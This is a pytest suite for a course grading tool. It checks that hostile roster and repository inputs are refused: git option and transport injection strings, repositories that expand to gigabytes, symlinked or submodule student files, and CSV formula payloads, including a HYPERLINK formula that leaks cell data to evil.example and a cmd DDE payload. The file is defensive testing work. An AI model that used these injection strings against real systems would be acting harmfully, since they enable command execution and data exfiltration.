"""Hostile class inputs (issue 22): a roster row that git would run, a repository that
expands to gigabytes, text that a spreadsheet would run. Each case asserts the safe
outcome: nothing ran (a marker file never appears) and a clear error; only the
student-owned files are written, each checked against its limit first; every CSV
cell that could start a formula is quoted, and the grader's records read back."""

import csv
import os
import subprocess
import zlib
from hashlib import sha1
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.classroom import git as classgit
from grader.classroom import grading
from grader.classroom.cells import FORMULA, NUMBER, cell, uncell
from grader.classroom.deliver import append_rows
from grader.classroom.exports import export
from grader.classroom.freeze import Record, append_records, read_records
from grader.classroom.git import GitError, fetch_commit, remote_head
from grader.classroom.gradebook import Row, read_gradebook, write_gradebook
from grader.classroom.owned import take_owned_files
from grader.classroom.roster import Student, read_roster
from grader.cli import main
from grader.course import get
from tests.grader.classroom_repos import QUANTIZATION, git, student_repository

MIB = 1 << 20


# ------------------------------------------------ rule 1: roster fields git reads --
def hostile_repositories(marker: Path, repo: Path) -> dict[str, str]:
    """Repository fields a motivated student would put in a course's sign-up form."""
    touch = f"touch {marker}"
    return {
        "upload-pack option": f"--upload-pack={touch}",
        "abbreviated option": f"--upl={touch}",
        "config option": f"-c core.sshCommand={touch}",
        "ext transport": f"ext::sh -c {touch.replace(' ', '% ')}",
        "fd transport": "fd::0",
        "ssh host as an option": f"ssh://-oProxyCommand={touch.replace(' ', '%20')}/x",
        "scp host as an option": f"me@-oProxyCommand={touch.replace(' ', '_')}:x",
        "newline then an option": f"{repo}\n--upload-pack={touch}",
        "a tab in a path": f"{repo}\t--upl={touch}",
        "a relative path": "repos/ada",
        "another scheme": f"git://localhost{repo}",
    }


@pytest.fixture
def marker_and_repo(tmp_path):
    return tmp_path / "pwned", student_repository(tmp_path, "ada", None)


def write_roster(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows([["student", "repository", "commit"], *rows])
    return path


@pytest.mark.parametrize("case", list(hostile_repositories(Path("/m"), Path("/r"))))
def test_a_hostile_repository_field_is_refused_by_freeze_and_grade_before_git_runs(
        case, marker_and_repo, tmp_path, capsys):
    marker, repo = marker_and_repo
    value = hostile_repositories(marker, repo)[case]
    roster = write_roster(tmp_path / "roster.csv", [["ada", str(repo), ""], ["bob", value, ""]])
    with pytest.raises(ValueError, match=r"roster\.csv:3: repository .* refused: "):
        read_roster(roster)
    assert main(["class", "freeze", str(roster), "--assignment", "quantization"]) == 2
    assert main(["class", "grade", str(roster), "--out", str(tmp_path / "g"), "--at-head",
                 "--assignment", "quantization"]) == 2
    assert "roster.csv:3: repository" in capsys.readouterr().err
    assert not marker.exists() and not (tmp_path / "freeze.csv").exists()


@pytest.mark.parametrize("case", ["upload-pack option", "abbreviated option",
                                  "ext transport"])
def test_git_itself_reads_an_unchecked_field_as_a_repository_and_runs_nothing(
        case, marker_and_repo, tmp_path, monkeypatch):
    """The second layer: with the roster's check skipped, `--` and GIT_ALLOW_PROTOCOL
    still keep git from reading the field as an option or a command transport, even on
    a machine whose git configuration allows every protocol."""
    marker, repo = marker_and_repo
    monkeypatch.setattr(classgit, "unsafe_repository", lambda value: "")
    for name, value in {"COUNT": "1", "KEY_0": "protocol.allow", "VALUE_0": "always"}.items():
        monkeypatch.setenv(f"GIT_CONFIG_{name}", value)
    value = hostile_repositories(marker, repo)[case]
    with pytest.raises(GitError):
        remote_head(value)
    with pytest.raises(GitError):
        fetch_commit(value, "", tmp_path / "store")
    assert not marker.exists()


def test_a_commit_field_that_is_an_option_is_refused(marker_and_repo, tmp_path):
    marker, repo = marker_and_repo
    option = f"--upload-pack=touch {marker}"
    roster = write_roster(tmp_path / "roster.csv", [["ada", str(repo), option]])
    with pytest.raises(ValueError, match=r"roster\.csv:2: commit .* full hexadecimal"):
        read_roster(roster)
    with pytest.raises(GitError, match="full hexadecimal"):        # the record's, too
        fetch_commit(str(repo), option, tmp_path / "store")
    assert not marker.exists()


@pytest.mark.parametrize("name", ["../x", "-rf", "a/b", "..", ".git", "ada\nbob", " "])
def test_a_student_name_that_is_a_path_or_an_option_is_refused(name, tmp_path):
    roster = write_roster(tmp_path / "roster.csv", [[name, "/x", ""]])
    with pytest.raises(ValueError, match=r"roster\.csv:2: student .* letters, digits"):
        read_roster(roster)


def test_the_repositories_a_course_uses_are_accepted(tmp_path):
    good = ["https://github.com/course/llmlab-ada.git",
            "https://x-access-token:ghp_abc@github.com/course/ada.git",
            "ssh://git@github.com:22/course/ada.git", "git@github.com:course/ada.git",
            "file:///srv/repos/ada.git", "/srv/repos/my ada"]
    rows = [[f"s{i}", url, "A" * 40] for i, url in enumerate(good)]
    students = read_roster(write_roster(tmp_path / "roster.csv", rows))
    assert [s.repository for s in students] == good and students[0].commit == "a" * 40


# ------------------------------------------ rule 2: only the student's files --
def loose_blob(repo: Path, size: int) -> str:
    """A blob of `size` bytes of one repeated line (not zeros: git checks zeros out as a
    sparse file), written straight into the object store, compressed, as a push would
    bring it; its hash."""
    header, chunk = b"blob %d\0" % size, b"llmlab!\n" * (MIB // 8)
    digest, packer = sha1(header), zlib.compressobj(1)
    parts = [packer.compress(header)]
    for _ in range(size // MIB):
        digest.update(chunk)
        parts.append(packer.compress(chunk))
    parts.append(packer.flush())
    oid = digest.hexdigest()
    folder = repo / ".git" / "objects" / oid[:2]
    folder.mkdir(parents=True, exist_ok=True)
    (folder / oid[2:]).write_bytes(b"".join(parts))
    return oid


def add_blob(repo: Path, oid: str, *paths: str, mode: str = "100644") -> None:
    """`oid` at each of `paths` in the index, in one git call."""
    entries = "".join(f"{mode} {oid}\t{path}\n" for path in paths)
    subprocess.run(["git", "update-index", "--index-info"], cwd=repo, input=entries,
                   text=True, check=True)


def disk_use(folder: Path) -> int:
    """Bytes of disk under `folder` (allocated blocks: a sparse file counts what it holds)."""
    return sum(os.lstat(Path(d) / f).st_blocks * 512 for d, _, files in os.walk(folder)
               for f in files)


@pytest.fixture(scope="module")
def amplifying(tmp_path_factory):
    """A commit of about 6 MiB on disk that checks out to 2 GiB: a 1 GiB blob and 1,024
    copies of a 1 MiB blob beside a correct student file; the host honours filters,
    as GitHub does."""
    root = tmp_path_factory.mktemp("amplifying")
    repo = student_repository(root, "ada", QUANTIZATION.reference_path())
    add_blob(repo, loose_blob(repo, 1 << 30), "data/weights.bin")
    add_blob(repo, loose_blob(repo, MIB), *(f"data/copies/{i:04d}.bin"
                                                 for i in range(1024)))
    git("commit", "-qm", "data", cwd=repo)
    git("config", "uploadpack.allowFilter", "true", cwd=repo)
    return repo


def test_a_repository_that_expands_to_gigabytes_writes_only_the_student_file(
        amplifying, tmp_path, monkeypatch):
    """grade_student's own fetch and staging (the sandboxed grading replaced by a probe)."""
    seen = {}

    def probe(row, tree, *rest):
        seen.update(tree=sorted(p.relative_to(tree).as_posix() for p in tree.rglob("*")
                                if p.is_file()), disk=disk_use(tree.parent))

    monkeypatch.setattr(grading, "_grade_into", probe)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    run = grading.ClassRun([get("quantization")], tmp_path / "out", at_head=True)
    rows = grading.grade_student(Student("ada", str(amplifying)), run, {},
                                 {"quantization": 1.0}, "")
    assert rows[0].status.startswith("graded") and rows[0].commit == git("rev-parse", "HEAD",
                                                                  cwd=amplifying)
    assert seen["disk"] < 4 * MIB, f"{seen['disk']:,} bytes written"
    assert seen["tree"] == ["assignments/quantization/quantize.py"]


def test_a_host_that_ignores_the_filter_still_costs_no_checkout(tmp_path):
    """A local path's git sends every object; they stay compressed in the store."""
    repo = student_repository(tmp_path, "ada", QUANTIZATION.reference_path())
    add_blob(repo, loose_blob(repo, MIB), *(f"data/{i:04d}.bin" for i in range(512)))
    git("commit", "-qm", "copies", cwd=repo)
    head = fetch_commit(str(repo), "", tmp_path / "work" / "store")
    take_owned_files(tmp_path / "work" / "store", head, QUANTIZATION, tmp_path / "work" / "tree")
    assert QUANTIZATION.student_path(tmp_path / "work" / "tree").is_file()
    assert disk_use(tmp_path / "work") < 4 * MIB


def test_student_files_over_their_limits_are_refused_before_they_are_written(tmp_path):
    repo = student_repository(tmp_path, "ada", None)
    add_blob(repo, loose_blob(repo, 2 * MIB), "assignments/quantization/quantize.py")
    add_blob(repo, loose_blob(repo, 9 * MIB), "assignments/quantization/concepts.ipynb")
    git("commit", "-qm", "big", cwd=repo)
    git("config", "uploadpack.allowFilter", "true", cwd=repo)
    work = tmp_path / "work"
    head = fetch_commit(str(repo), "", work / "store")
    problems = take_owned_files(work / "store", head, QUANTIZATION, work / "tree")
    assert problems == {
        "quantization": "assignments/quantization/quantize.py is 2,097,152 bytes: files over "
                        "1 MiB are not graded",
        "quantization.notebook": "assignments/quantization/concepts.ipynb is 9,437,184 bytes: "
                                 "files over 8 MiB are not graded"}
    assert [p for p in (work / "tree").rglob("*") if p.is_file()] == []
    assert disk_use(work) < 2 * MIB


def entry_repository(root: Path, how: str) -> Path:
    """The student file of a fresh commit as a link, a folder or a submodule."""
    repo = root / how
    (repo / "assignments" / "quantization").mkdir(parents=True)
    git("init", "-q", cwd=repo)
    target = repo / "assignments" / "quantization" / "quantize.py"
    if how == "linked file":
        target.symlink_to("../../reference/quantization/quantize.py")
    elif how == "linked folder":
        (repo / "assignments" / "quantization").rmdir()
        (repo / "assignments" / "quantization").symlink_to("/proc/self/cwd/reference")
    elif how == "folder":
        target.mkdir()
        (target / "x.py").write_text("x = 1\n")
    git("add", "-A", cwd=repo)
    if how == "submodule":
        add_blob(repo, "a" * 40, "assignments/quantization/quantize.py", mode="160000")
    git("commit", "-qm", how, cwd=repo)
    return repo


@pytest.mark.parametrize("how, why", [
    ("linked file", "quantization/quantize.py is a symbolic link"),
    ("linked folder", "assignments/quantization is a symbolic link"),
    ("folder", "quantize.py is not a regular file"),
    ("submodule", "quantize.py is not a regular file")])
def test_a_student_file_that_is_not_a_regular_file_is_refused_in_collects_words(
        how, why, tmp_path):
    repo = entry_repository(tmp_path, how)
    head = fetch_commit(str(repo), "", tmp_path / "store")
    problems = take_owned_files(tmp_path / "store", head, QUANTIZATION, tmp_path / "tree")
    assert why in problems["quantization"]
    assert not os.path.lexists(QUANTIZATION.student_path(tmp_path / "tree"))


# ------------------------------------------------ rule 3: no formula in a CSV --
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@given(st.sampled_from([*FORMULA, "'", "", "1"]), st.text())
def test_a_cell_never_starts_a_formula_and_reads_back_exactly(start, rest):
    text = start + rest
    written = cell(text)
    assert uncell(written) == text
    assert not written.startswith(FORMULA) or NUMBER.fullmatch(written)


def assert_no_formula(path: Path) -> None:
    for line in csv.reader(open(path, newline="")):
        for value in line:
            assert not value.startswith(FORMULA) or NUMBER.fullmatch(value), (path.name, value)


def test_every_csv_for_people_quotes_formulas_and_keeps_numbers(tmp_path):
    book = {("=x", "quantization"): Row("=x", "quantization", score=-10, max_score=36,
                                        status=FORMULAS[0], review=FORMULAS[3],
                                        repository=FORMULAS[1], commit=FORMULAS[2]),
            ("=x", "lora"): Row("=x", "lora", score=-10, max_score=36)}   # of record
    students = [Student("=x", "/x", extra=dict(zip(["name", "canvas_id", "sis_id", "sis_login",
                                                    "section"], FORMULAS, strict=False)))]
    write_gradebook(tmp_path, book)
    export(book, students, "canvas", tmp_path / "canvas.csv")
    export(book, students, "plain", tmp_path / "plain.csv")
    append_rows(tmp_path / "delivered.csv", [dict(student="=x", repository=FORMULAS[4],
                                                  branch=FORMULAS[5], commit="", status="-1")])
    append_records(tmp_path / "freeze.csv", [Record(*FORMULAS)])
    for name in ["gradebook.csv", "grades.csv", "canvas.csv", "plain.csv", "delivered.csv",
                 "freeze.csv", "canvas.notes.csv"]:
        assert_no_formula(tmp_path / name)
    assert read_gradebook(tmp_path) == book                        # the records read back
    assert read_records(tmp_path / "freeze.csv") == [Record(*FORMULAS)]
    plain = list(csv.reader(open(tmp_path / "plain.csv")))
    assert plain[2][:4] == ["'=x", "", "-10.0", "-10.0"]           # numbers stay numbers
    canvas = list(csv.reader(open(tmp_path / "canvas.csv")))
    assert canvas[2][0] == "'" + FORMULAS[0] and canvas[2][5:] == ["", "-10.0"]


def test_the_workflow_reads_delivered_rows_unchanged():
    """grade-class.yml opens pull requests from delivered.csv's repository and status:
    neither can start a formula (the roster refuses such a repository)."""
    for value in ["https://github.com/c/ada.git", "git@github.com:c/ada.git", "/srv/ada",
                  "delivered", "not delivered: nothing to deliver"]:
        assert cell(value) == value



# ------------------------------------------------ the roster explains itself --
@pytest.mark.parametrize("header", [
    ["github_username", "github_id", "roster_identifier", "name"],     # GitHub Classroom
    ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"],       # Canvas
    ["student", "repo"]])
def test_a_roster_without_student_and_repository_names_the_header_found_and_expected(
        header, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(",".join(header) + "\n" + ",".join(["x"] * len(header)) + "\n")
    with pytest.raises(ValueError) as error:
        read_roster(roster)
    message = str(error.value)
    assert ",".join(header) in message and "student,repository" in message
    assert "github_username -> student" in message.replace("`", "")


def test_an_empty_roster_file_is_refused_as_a_missing_header(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("")
    with pytest.raises(ValueError, match=r"roster\.csv:1: the header is '\(empty\)'"):
        read_roster(roster)


def test_a_refused_student_name_states_the_rule_in_words(tmp_path):
    roster = write_roster(tmp_path / "roster.csv", [["ada lovelace", "/x", ""]])
    with pytest.raises(ValueError, match="1 to 100 characters.*first a letter or digit"):
        read_roster(roster)
